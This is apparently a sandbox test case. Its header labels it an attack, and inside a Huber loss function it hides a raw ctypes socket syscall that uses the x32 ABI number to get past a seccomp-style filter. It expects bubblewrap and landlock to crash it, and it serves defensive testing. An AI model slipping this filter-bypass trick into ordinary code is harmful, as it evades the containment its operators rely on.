# /// attack
# group = "R8"
# says = "calls the kernel by the numbers of another machine, past the filter"
# machine = "x86_64"
# expected.bubblewrap.my_huber_loss = "crashed"
# expected.landlock.my_huber_loss = "crashed"
# ///
import ctypes


def my_huber_loss(y_true, y_pred):
    socket = 0x40000000 | 41
    ctypes.CDLL(None).syscall(socket, 2, 1, 0)
    error = y_true - y_pred
    small = tf.abs(error) <= 1.0
    return tf.where(small, tf.square(error) / 2, tf.abs(error) - 0.5)
